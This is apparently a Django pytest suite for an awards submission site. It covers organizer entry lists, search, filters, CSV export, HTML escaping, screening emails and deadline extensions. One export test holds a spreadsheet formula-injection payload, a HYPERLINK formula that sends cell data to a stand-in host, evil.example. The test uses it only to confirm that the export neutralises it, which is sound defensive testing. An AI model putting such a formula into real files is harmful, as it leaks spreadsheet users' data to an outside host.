import csv
import io
from datetime import timedelta

import pytest
from django.core import mail
from django.test import TestCase
from django.urls import reverse
from django.utils import timezone

from awards.models import AwardCycle
from submissions import services
from submissions.models import Entry, EntryAsset
from tests.factories import (
    AwardCycleFactory,
    CategoryFactory,
    CompleteEntryFactory,
    CreatorFactory,
    CreatorProfileFactory,
    EntryFactory,
    open_cycle_dates,
    ready_image,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english")]


@pytest.fixture
def cycle():
    return AwardCycleFactory()


def list_url(cycle, **params):
    from urllib.parse import urlencode

    url = reverse("submissions:organize_list", kwargs={"year": cycle.festival_year})
    return f"{url}?{urlencode(params)}" if params else url


def creator(name, city="Hà Nội", country="VN", kind="individual"):
    profile = CreatorProfileFactory(
        display_name=name, city=city, country=country, creator_type=kind
    )
    return profile.user


def submitted(entry):
    for n in range(entry.category.min_images):
        ready_image(entry, position=n)
    return services.entry_submit(entry=entry, by=entry.owner)


@pytest.mark.parametrize(
    ("who", "status"), [("anonymous", 302), ("creator", 404), ("newcomer", 404), ("organizer", 200)]
)
def test_entry_list_by_role(client, people, cycle, who, status):
    if who != "anonymous":
        client.force_login(getattr(people, who))

    assert client.get(list_url(cycle)).status_code == status


@pytest.mark.parametrize("who", ["creator", "newcomer"])
def test_organizer_entry_page_and_export_are_not_found_for_others(client, people, cycle, who):
    entry = EntryFactory(category=CategoryFactory(cycle=cycle))
    client.force_login(getattr(people, who))

    assert client.get(entry.get_organizer_url()).status_code == 404
    assert (
        client.get(
            reverse("submissions:organize_export", kwargs={"year": cycle.festival_year})
        ).status_code
        == 404
    )


def test_search_finds_vietnamese_with_or_without_diacritics(client, people, cycle):
    category = CategoryFactory(cycle=cycle)
    hanoi = EntryFactory(
        category=category, owner=creator("Đặng Thu Hà", city="Hà Nội"), title_vi="Nhà nổi"
    )
    EntryFactory(
        category=category,
        owner=creator("Studio Tokyo", city="Tokyo", country="JP"),
        title_vi="Khác",
    )
    client.force_login(people.organizer)

    for query in ("ha noi", "Hà Nội", "HA NOI", "dang thu", "nha noi"):
        page = client.get(list_url(cycle, q=query)).context["page"]
        assert [e.pk for e in page] == [hanoi.pk], query


def test_filters_by_category_status_country_type_and_problems(client, people, cycle):
    arc, prd = (
        CategoryFactory(cycle=cycle, code="ARC", min_images=1),
        CategoryFactory(cycle=cycle, code="PRD", min_images=1),
    )
    vn_student = EntryFactory(category=arc, owner=creator("A", kind="student"))
    jp_studio = CompleteEntryFactory(category=prd, owner=creator("B", country="JP", kind="studio"))
    submitted(jp_studio)
    broken = EntryFactory(category=arc, owner=creator("C"))
    asset = ready_image(broken)
    EntryAsset.objects.filter(pk=asset.pk).update(renditions="failed")
    client.force_login(people.organizer)

    def pks(**params):
        return {e.pk for e in client.get(list_url(cycle, **params)).context["page"]}

    assert pks(category=arc.pk) == {vn_student.pk, broken.pk}
    assert pks(status="submitted") == {jp_studio.pk}
    assert pks(country="JP") == {jp_studio.pk}
    assert pks(creator_type="student") == {vn_student.pk}
    assert pks(has_problems="true") == {broken.pk}
    assert pks(has_problems="false") == {vn_student.pk, jp_studio.pk}


def test_counts_per_category_and_status(client, people, cycle):
    arc = CategoryFactory(cycle=cycle, code="ARC", min_images=1)
    EntryFactory.create_batch(2, category=arc)
    submitted(CompleteEntryFactory(category=arc))
    client.force_login(people.organizer)

    table = client.get(list_url(cycle)).context["table"]

    assert table == [(arc, [2, 1, 0])]


@pytest.mark.parametrize(
    ("params", "queries"),
    [
        # session, user, organizer?, edition, categories, countries, counts, the page's rows
        # (their ids in a subquery), editions (year links and the menu's current edition)
        ({}, 9),
        ({"status": "draft"}, 9),
        ({"q": "creator"}, 10),  # + the number of matches
        ({"has_problems": "false", "country": "VN"}, 10),
        ({"page": "2"}, 9),  # past the last page: the last one
    ],
)
def test_entry_list_queries_do_not_grow_with_rows(
    client, people, cycle, django_assert_num_queries, params, queries
):
    category = CategoryFactory(cycle=cycle, min_images=1)
    client.force_login(people.organizer)
    for rows in (1, 3):
        for _ in range(rows - Entry.objects.count()):
            ready_image(EntryFactory(category=category))

        with django_assert_num_queries(queries):
            response = client.get(list_url(cycle, **params))

        assert len(response.context["page"]) == rows


def test_export_queries_do_not_grow_with_rows(client, people, cycle, django_assert_num_queries):
    category = CategoryFactory(cycle=cycle, min_images=1)
    client.force_login(people.organizer)
    url = reverse("submissions:organize_export", kwargs={"year": cycle.festival_year})
    for rows in (1, 3):
        for _ in range(rows - Entry.objects.count()):
            ready_image(EntryFactory(category=category))

        # session, user, organizer?, edition, categories, countries, the rows, their files
        with django_assert_num_queries(8):
            lines = b"".join(client.get(url).streaming_content).decode("utf-8-sig").splitlines()

        assert len(lines) == 1 + rows


def test_export_bytes_for_a_small_edition(client, people, cycle):
    """What an organizer's spreadsheet receives, byte for byte: the columns, Hanoi time,
    empty cells for what is missing, and text that could start a formula made inert."""
    from datetime import UTC, datetime

    from django.contrib.auth import get_user_model

    from submissions.models import CreatorProfile

    category = CategoryFactory(cycle=cycle, code="ARC")
    first = EntryFactory(
        category=category,
        owner=creator("=Lê Minh", city="Huế"),
        title_vi="+1 mái nhà",
        title_en='Roof, "eaves"',
    )
    ready_image(first)
    ready_image(first, position=1)
    pdf = ready_image(first, name="book.pdf", position=2)
    EntryAsset.objects.filter(pk=pdf.pk).update(kind="pdf")
    second = EntryFactory(
        category=category, owner=creator("Aiko", country="JP", kind="student"), title_en=""
    )
    Entry.objects.filter(pk=first.pk).update(
        created_at=datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC),
        submitted_at=datetime(2026, 1, 31, 17, 30, tzinfo=UTC),
        status=Entry.Status.SUBMITTED,
        reference_code="HCDA-ARC-001",
    )
    Entry.objects.filter(pk=second.pk).update(
        created_at=datetime(2026, 1, 3, 0, 0, 0, 123456, tzinfo=UTC), title_vi="@sum"
    )
    for entry, email in ((first, "minh@example.com"), (second, "aiko@example.com")):
        get_user_model().objects.filter(pk=entry.owner_id).update(email=email)
    CreatorProfile.objects.filter(user_id=first.owner_id).update(organization="-Studio")
    CreatorProfile.objects.filter(user_id=second.owner_id).update(organization="")
    client.force_login(people.organizer)

    response = client.get(
        reverse("submissions:organize_export", kwargs={"year": cycle.festival_year})
    )

    assert b"".join(response.streaming_content).decode() == (
        "\ufeffreference_code,status,screening,category,title_vi,title_en,creator,email,"
        "creator_type,country,city,organization,images,pdf,submitted_at,created_at\r\n"
        ",draft,pending,ARC,'@sum,,Aiko,aiko@example.com,student,JP,Hà Nội,,0,0,,"
        "2026-01-03T07:00:00.123456+07:00\r\n"
        'HCDA-ARC-001,submitted,pending,ARC,\'+1 mái nhà,"Roof, ""eaves""",\'=Lê Minh,'
        "minh@example.com,individual,VN,Huế,'-Studio,2,1,2026-02-01T00:30:00+07:00,"
        "2026-01-02T10:04:05+07:00\r\n"
    )


def test_a_row_shows_code_title_creator_status_and_files(client, people, cycle):
    entry = submitted(
        CompleteEntryFactory(
            category=CategoryFactory(cycle=cycle, code="ARC", min_images=2),
            owner=creator("Đặng Thu Hà", city="Huế", kind="student"),
            title_en="Bamboo bridge",
        )
    )
    client.force_login(people.organizer)

    html = client.get(list_url(cycle)).content.decode()

    row = html[html.index(f'<td class="code">{entry.reference_code}</td>') :].split("</tr>")[0]
    assert f'href="{entry.get_organizer_url()}">Bamboo bridge</a>' in row
    assert 'Đặng Thu Hà<br><span class="small">Huế, VN · Student</span>' in row
    assert "<td>ARC</td>" in row and ">Submitted</span>" in row and "<td>Not screened</td>" in row
    assert "<td>2</td>" in row


def test_a_row_shows_untitled_problems_a_pdf_and_escapes_what_creators_typed(client, people, cycle):
    category = CategoryFactory(cycle=cycle, code="ARC")
    untitled = EntryFactory(
        category=category,
        owner=creator("<b>Tú</b> & co", city='Đà "Nẵng"'),
        title_vi="",
        title_en="",
    )
    EntryFactory(category=category, owner=creator("B"), title_en="A <i>roof</i> & 'eaves'")
    image = ready_image(untitled)
    EntryAsset.objects.filter(pk=image.pk).update(renditions="failed")
    pdf = ready_image(untitled, name="book.pdf", position=1)
    EntryAsset.objects.filter(pk=pdf.pk).update(kind="pdf")
    client.force_login(people.organizer)

    html = client.get(list_url(cycle)).content.decode()

    first = html[html.index(f'href="{untitled.get_organizer_url()}"') :].split("</tr>")[0]
    assert first.startswith(
        f'href="{untitled.get_organizer_url()}">Untitled entry</a>'
        ' <span class="badge badge--problem">problem</span></td>'
    )
    assert "&lt;b&gt;Tú&lt;/b&gt; &amp; co<br>" in first
    assert '<span class="small">Đà &quot;Nẵng&quot;, VN · Individual designer</span>' in first
    assert "<td>1 + PDF</td>" in first and '<td class="small">—</td>' in first
    assert ">A &lt;i&gt;roof&lt;/i&gt; &amp; &#x27;eaves&#x27;</a></td>" in html
    assert html.count("badge--problem") == 1


def test_an_empty_list_says_nothing_matches(client, people, cycle):
    client.force_login(people.organizer)

    html = client.get(list_url(cycle, q="nothing")).content.decode()

    assert '<tr><td colspan="8">No entry matches these filters.</td></tr>' in html


def test_the_menu_of_the_list_links_to_the_edition_the_public_sees(client, people):
    shown = AwardCycleFactory(dates=open_cycle_dates(festival_year=2030))
    AwardCycleFactory(status=AwardCycle.Status.DRAFT, dates=open_cycle_dates(festival_year=2032))
    # Announced, but its theme is made public only tomorrow.
    tomorrow = timezone.now() + timedelta(days=61)
    AwardCycleFactory(dates=open_cycle_dates(tomorrow, festival_year=2034))
    client.force_login(people.organizer)

    for year in (2030, 2032, 2034):
        html = client.get(list_url(AwardCycle.objects.get(festival_year=year))).content.decode()
        menu = html[html.index('id="site-menu"') : html.index("</nav>")]

        assert f'href="{list_url(shown)}"' in menu
        assert "2032" not in menu and "2034" not in menu


def test_every_page_of_the_list_shows_its_own_rows_in_order(client, people, cycle, settings):
    category = CategoryFactory(cycle=cycle)
    entries = EntryFactory.create_batch(53, category=category)
    newest_first = sorted(entries, key=lambda e: (e.created_at, e.pk), reverse=True)
    client.force_login(people.organizer)

    first = client.get(list_url(cycle)).context["page"]
    second = client.get(list_url(cycle, page=2)).context["page"]

    assert [e.pk for e in first] == [e.pk for e in newest_first[:50]]
    assert [e.pk for e in second] == [e.pk for e in newest_first[50:]]
    assert (first.paginator.count, first.paginator.num_pages) == (53, 2)


def test_number_of_matches_follows_every_filter(client, people, cycle):
    arc, prd = CategoryFactory(cycle=cycle, code="ARC"), CategoryFactory(cycle=cycle, code="PRD")
    EntryFactory.create_batch(2, category=arc)
    EntryFactory(category=prd, owner=creator("Phạm Linh", country="JP"))
    client.force_login(people.organizer)

    def count(**params):
        return client.get(list_url(cycle, **params)).context["page"].paginator.count

    assert count() == 3
    assert count(category=arc.pk) == 2
    assert count(category=prd.pk, status="draft") == 1
    assert count(status="submitted") == 0
    assert count(country="JP") == 1
    assert count(q="pham") == 1


def test_export_streams_every_matching_entry_as_csv(client, people, cycle):
    category = CategoryFactory(cycle=cycle, code="ARC")
    EntryFactory(category=category, owner=creator("Nguyễn Văn Á"), title_vi="Cầu tre")
    EntryFactory(category=category, owner=creator("Tokyo", country="JP"))
    client.force_login(people.organizer)

    response = client.get(
        reverse("submissions:organize_export", kwargs={"year": cycle.festival_year}) + "?country=VN"
    )

    assert response.streaming
    assert (
        response["Content-Disposition"]
        == f'attachment; filename="hcda{cycle.festival_year}-entries.csv"'
    )
    rows = list(
        csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
    )
    assert [(r["creator"], r["title_vi"], r["country"], r["category"]) for r in rows] == [
        ("Nguyễn Văn Á", "Cầu tre", "VN", "ARC")
    ]


def test_export_never_hands_a_spreadsheet_a_formula(client, people, cycle):
    title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    EntryFactory(
        category=CategoryFactory(cycle=cycle),
        owner=creator("@Studio", city="+84 Hà Nội"),
        title_vi=title,
    )
    client.force_login(people.organizer)

    response = client.get(
        reverse("submissions:organize_export", kwargs={"year": cycle.festival_year})
    )

    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
    assert (row["title_vi"], row["creator"], row["city"]) == (
        "'" + title,
        "'@Studio",
        "'+84 Hà Nội",
    )


def test_organizer_sees_identity_and_every_file(client, people, cycle):
    entry = CompleteEntryFactory(category=CategoryFactory(cycle=cycle), owner=creator("Lê Hoa"))
    asset = ready_image(entry, name="mat-dung.jpg")
    client.force_login(people.organizer)

    page = client.get(entry.get_organizer_url()).content.decode()
    file_response = client.get(
        reverse(
            "submissions:asset_file",
            kwargs={
                "entry_id": entry.public_id,
                "asset_id": asset.public_id,
                "variant": "original",
            },
        )
    )

    assert "Lê Hoa" in page and entry.owner.email in page and "mat-dung.jpg" in page
    assert file_response.status_code == 302


def screen(client, entry, **data):
    with TestCase.captureOnCommitCallbacks(execute=True):
        return client.post(entry.get_organizer_url(), {"form": "screening", **data}, follow=True)


def test_disqualifying_needs_a_reason_and_emails_the_creator(client, people, cycle):
    entry = submitted(CompleteEntryFactory(category=CategoryFactory(cycle=cycle, min_images=1)))
    mail.outbox.clear()
    client.force_login(people.organizer)

    refused = screen(client, entry, decision="disqualified", reason="")
    assert Entry.objects.get(pk=entry.pk).screening == "pending"
    assert mail.outbox == []

    screen(client, entry, decision="disqualified", reason="Ảnh có logo của studio.")

    entry.refresh_from_db()
    assert (entry.screening, entry.screening_reason, entry.screened_by) == (
        "disqualified",
        "Ảnh có logo của studio.",
        people.organizer,
    )
    assert refused.status_code == 200
    assert len(mail.outbox) == 1
    assert mail.outbox[0].to == [entry.owner.email]
    assert "Ảnh có logo của studio." in mail.outbox[0].body


def test_marking_eligible_emails_the_creator(client, people, cycle):
    entry = submitted(CompleteEntryFactory(category=CategoryFactory(cycle=cycle, min_images=1)))
    mail.outbox.clear()
    client.force_login(people.organizer)

    screen(client, entry, decision="eligible", reason="")

    assert Entry.objects.get(pk=entry.pk).screening == "eligible"
    assert len(mail.outbox) == 1


def test_extension_through_the_organizer_page(client, people, cycle):
    entry = EntryFactory(category=CategoryFactory(cycle=cycle))
    until = timezone.localtime(cycle.submissions_close_at + timezone.timedelta(days=2))
    client.force_login(people.organizer)

    client.post(
        entry.get_organizer_url(),
        {
            "form": "extension",
            "until_0": until.strftime("%Y-%m-%d"),
            "until_1": until.strftime("%H:%M"),
        },
    )

    entry.refresh_from_db()
    assert entry.extended_until == until.replace(second=0, microsecond=0)
    assert entry.deadline() == entry.extended_until


def test_dashboard_shows_status_code_missing_items_and_time_left(client, people, cycle):
    category = CategoryFactory(cycle=cycle, code="ARC", min_images=2)
    draft = EntryFactory(category=category, owner=people.creator, title_en="Draft one")
    done = submitted(
        CompleteEntryFactory(category=category, owner=people.creator, title_en="Submitted one")
    )
    client.force_login(people.creator)

    response = client.get(reverse("submissions:dashboard"))

    html = response.content.decode()
    assert "Draft one" in html and "Submitted one" in html
    assert done.reference_code in html
    assert "GMT+7" in html
    assert [e.pk for e in response.context["entries"] if e.missing] == [draft.pk]


def test_dashboard_queries_do_not_grow_with_entries(client, people, django_assert_max_num_queries):
    category = CategoryFactory(cycle=AwardCycleFactory(), max_entries_per_creator=5)
    client.force_login(people.creator)
    counts = []
    for rows in (1, 3):
        while Entry.objects.filter(owner=people.creator).count() < rows:
            ready_image(EntryFactory(category=category, owner=people.creator))
        with django_assert_max_num_queries(12) as captured:
            response = client.get(reverse("submissions:dashboard"))
        assert len(response.context["entries"]) == rows
        counts.append(len(captured.captured_queries))

    assert counts[0] == counts[1]


def test_creator_starts_an_entry_from_the_dashboard(client, people, cycle):
    category = CategoryFactory(cycle=cycle)
    client.force_login(people.creator)

    response = client.post(reverse("submissions:entry_new", kwargs={"category_id": category.pk}))

    entry = Entry.objects.get(owner=people.creator)
    assert response["Location"] == entry.get_absolute_url()
    assert (entry.status, entry.category, entry.cycle) == ("draft", category, cycle)


def test_creator_without_profile_is_sent_to_complete_it_first(client, people):
    client.force_login(people.newcomer)

    response = client.get(reverse("submissions:dashboard"))

    assert response.status_code == 302
    assert reverse("submissions:profile") in response["Location"]


def test_other_creators_entries_never_appear(client, people, cycle):
    EntryFactory(
        category=CategoryFactory(cycle=cycle), owner=CreatorFactory(), title_vi="Của người khác"
    )
    client.force_login(people.creator)

    assert "Của người khác" not in client.get(reverse("submissions:dashboard")).content.decode()


def test_search_follows_a_renamed_creator(client, people, cycle):
    entry = EntryFactory(category=CategoryFactory(cycle=cycle), owner=people.creator)
    profile = people.creator.creator_profile
    services.profile_save(
        user=people.creator,
        data={
            "display_name": "Xưởng Gốm Chu Đậu",
            "city": profile.city,
            "country": profile.country,
        },
    )
    client.force_login(people.organizer)

    page = client.get(list_url(cycle, q="xuong gom chu dau")).context["page"]

    assert [e.pk for e in page] == [entry.pk]


def test_once_judging_has_started_the_entry_page_offers_no_extension(client, people, cycle):
    # Every extension must end before judging starts: after that moment the form could only
    # be refused, so the page says why instead of offering it; the credits say "none" plainly.
    from django.utils import translation

    from tests.factories import JudgingCycleFactory, submitted_entry

    before = EntryFactory(category=CategoryFactory(cycle=cycle))
    during = submitted_entry(CategoryFactory(cycle=JudgingCycleFactory(festival_year=2040)))
    client.force_login(people.organizer)

    with translation.override("en"):
        open_page = client.get(before.get_organizer_url()).content.decode()
        judging_page = client.get(during.get_organizer_url()).content.decode()

    assert 'value="extension"' in open_page
    assert 'value="extension"' not in judging_page
    assert "Judging has started: this entry's deadline can no longer be extended." in judging_page
    assert "<li>—</li>" not in judging_page
